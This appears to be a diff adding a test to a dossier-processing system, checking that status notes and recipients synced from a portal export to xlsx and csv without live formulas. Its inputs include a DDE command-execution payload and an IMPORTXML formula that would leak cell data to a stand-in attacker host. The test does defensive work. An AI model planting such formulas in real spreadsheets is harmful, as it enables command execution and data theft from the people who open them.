@@ -185,3 +185,61 @@ def test_queue_log_through_the_hub_link_is_inert(desk: Desk, tmp_path: Path) -> 
             assert xlsx_formulas(f.path) == []
         else:
             assert not [c for c in csv_cells(f.path) if dangerous(c)]
+
+
+def test_back_office_texts_reach_the_book_inert(tmp_path: Path) -> None:
+    """Back-office path: a status note and a return recipient typed on the portal travel to
+    the counter (sync) and into its Mẫu 07 book."""
+    from counter.sync import sync_once
+    from portal import admin
+    from portal.server import ThreadedPortal
+    from tests.test_sync_support import AGENCY, make_counter
+
+    with ThreadedPortal(tmp_path / "portal.db") as portal:
+        c = make_counter(
+            tmp_path, 3, portal.url, admin.create_enrollment_code(portal.storage, AGENCY, 3)
+        )
+        d = c.desk.receive(draft_for(c.desk))
+        c.desk.act(d.uuid, "start_processing")
+        c.desk.act(d.uuid, "result_ready")
+        assert sync_once(c.store, c.config).ok
+        admin.set_dossier_status(
+            portal.storage,
+            d.code,
+            "returned",
+            by="=cmd|' /C calc'!A0",
+            note=HOSTILE[0],
+            to='=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
+        )
+        report = sync_once(c.store, c.config)
+        assert report.ok and report.pulled == 1, report.text()
+        assert c.desk.get(d.uuid).returned_to.startswith("=IMPORTXML")
+        c.desk.logout()
+        from counter import auth
+
+        auth.create_officer(
+            c.store,
+            username="giamsat",
+            full_name="Lê Văn Hùng",
+            role="supervisor",
+            secret="246810",
+            now=c.desk.now(),
+            by=auth.Officer(1, "canbo", "Trần Thị Mai", "supervisor"),
+        )
+        c.desk.login("giamsat", "246810")
+        day = d.received_at.date()
+        result = exports.export(c.desk, exports.ExportRequest(day, day, tmp_path / "out"))
+        for f in result.files:
+            if f.path.suffix == ".xlsx":
+                assert xlsx_formulas(f.path) == []
+                values = [
+                    c.value
+                    for row in openpyxl.load_workbook(f.path).worksheets[0].iter_rows()
+                    for c in row
+                ]
+                assert any(isinstance(v, str) and v.startswith("=IMPORTXML") for v in values)
+            else:
+                cells = csv_cells(f.path)
+                assert not [x for x in cells if dangerous(x)]
+                assert any(x.startswith("'=IMPORTXML") for x in cells)
+        c.desk.close()
